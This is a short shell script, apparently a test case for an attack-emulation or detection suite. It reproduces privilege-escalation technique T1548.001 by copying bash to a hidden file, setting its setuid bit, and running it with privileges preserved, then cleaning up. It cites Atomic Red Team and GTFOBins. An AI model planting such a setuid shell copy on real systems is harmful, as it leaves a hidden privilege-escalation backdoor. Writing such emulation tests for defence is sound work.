#!/bin/sh
# case: T1548.001-suid-bash-copy
# technique: Set-uid copy of bash in a hidden place
# source: redcanaryco/atomic-red-team T1548.001-1; GTFOBins bash
# needs: cp chmod bash
# expect: priv file
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need cp chmod bash
cp "$(command -v bash)" "$W/.b"; chmod 4755 "$W/.b"; "$W/.b" -p -c true
exit 0
